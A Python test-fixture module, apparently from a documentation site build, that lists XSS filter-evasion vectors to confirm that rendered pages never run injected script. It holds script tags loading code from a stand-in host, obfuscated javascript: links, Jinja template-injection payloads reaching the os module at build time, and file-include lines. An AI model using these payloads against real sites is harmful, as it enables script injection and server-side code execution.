"""Injection vectors drawn from the OWASP XSS filter-evasion classes, each carrying a marker `alert(N)`.

Every vector is written into every kind of text field of a data set; the loader may refuse it
(with a precise error) or the site may render it, but no rendered page may run it.
"""

from __future__ import annotations

VECTORS = [
    # Script elements, plain and obfuscated
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<<script>alert(4);//<</script>",
    "<script/xss src=https://evil.example/5.js></script>",
    # Event handlers on ordinary elements
    '<img src=x onerror="alert(6)">',
    "<img src=x onerror=alert(7)//",
    "<svg onload=alert(8)>",
    "<body onload=alert(9)>",
    '<details open ontoggle="alert(10)">',
    "<input autofocus onfocus=alert(11)>",
    '<div style="background:url(javascript:alert(12))">',
    '"><img src=x onerror=alert(13)>',
    "'><svg/onload=alert(14)>",
    # Dangerous URL schemes in raw HTML
    '<a href="javascript:alert(15)">x</a>',
    '<iframe src="javascript:alert(16)"></iframe>',
    '<iframe srcdoc="<script>alert(17)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(18)</script>"></object>',
    '<embed src="javascript:alert(19)">',
    '<form action="javascript:alert(20)"><button>go</button></form>',
    '<math><mi xlink:href="javascript:alert(21)">x</mi></math>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(22)">',
    '<base href="javascript:alert(23)//">',
    '<link rel="stylesheet" href="javascript:alert(24)">',
    # Markdown links and images with dangerous schemes, with the evasions browsers undo
    "[x](javascript:alert(25))",
    "[x](JaVaScRiPt:alert(26))",
    "[x](&#106;avascript:alert(27))",
    "[x](&#x6A;&#x61;&#x76;&#x61;script:alert(28))",
    "[x](&#0000106&#0000097vascript:alert(29))",
    "[x](jav\tascript:alert(30))",
    "[x](jav&#x09;ascript:alert(31))",
    "[x]( javascript:alert(32))",
    "[x](&amp;#106;avascript:alert(33))",
    "![x](javascript:alert(34))",
    "[x](vbscript:alert(35))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgzNik8L3NjcmlwdD4=)",
    "[x][r]\n\n[r]: javascript:alert(37)",
    "<javascript:alert(38)>",
    "[x](<javascript:alert(39)>)",
    "[x](https://ok.example/)[y](javascript:alert(40))",
    # Markup that other layers would interpret: attribute lists, templates, comments
    '**bold**{: onclick="alert(41)" }',
    "{{ config.extra }}{% raw %}alert(42){% endraw %}",
    "{# alert(43) #}",
    "<!-- alert(44) --><script>alert(44)</script>",
    "<![CDATA[<script>alert(45)</script>]]>",
    # Escaped-looking text and HTML inside code spans (shown, never run)
    "`<img src=x onerror=alert(46)>`",
    "&lt;script&gt;alert(47)&lt;/script&gt;",
    "``<svg onload=alert(48)>``",
    "`` ` ``<script>alert(49)</script>",
    # Template syntax for the macros plugin's Jinja, plain and inside code (the red team's build-time code execution)
    "{{ lipsum.__globals__['os'].makedirs('pwned') }}",
    "`{{ lipsum.__globals__['os'].makedirs('pwned') }}`",
    "{% set x = cycler.__init__.__globals__.os.makedirs('pwned') %}",
    # Include lines of pymdownx.snippets, which would publish a file of the checkout
    '--8<-- "mkdocs.yml"',
    ';--8<-- "mkdocs.yml"',
    '`--8<-- "mkdocs.yml"`',
    # Markup checks that disagree with Markdown: unequal backtick runs, escaped backticks, titles closing <title>
    "``<b>x```<script>alert(50)</script>",
    "\\`<img src=x onerror=alert(51)>\\`",
    "</title><script>alert(52)</script>",
    "`</title><script>alert(53)</script>`",
    "<textarea>everything after this would be swallowed",
    "```\n<script>alert(54)</script>\n```",
    "    <script>alert(55)</script>",
    # Attribute lists that give an element an id the theme's own scripts use; images that load from elsewhere
    "*x*{: #__search }",
    "`x`{: #__drawer }",
    "![pixel](https://tracker.example/p.png)",
    "[x](javascript&colon;alert(56))",
    "[x]( javascript:alert(57) )",
    # The delimiters of a page part (macros/plugin/page_parts.py) without the build's secret: a code block or text that ends a
    # part early would bring what follows out of it
    "x\n\n<!--atlas-part-close-0-->\n\n<script>alert(58)</script>\n\n<!--atlas-part-open-0-->\n\ny",
    # An attribute that the search plugin drops from a page, beside a handler: the search event that skips pages with
    # no such attribute (macros/plugin/searching.py) must never take data's text for one
    '<b data-search-exclude="1" onmouseover="alert(59)">x</b> data-search-boost="2" `data-search-exclude="3"`',
]
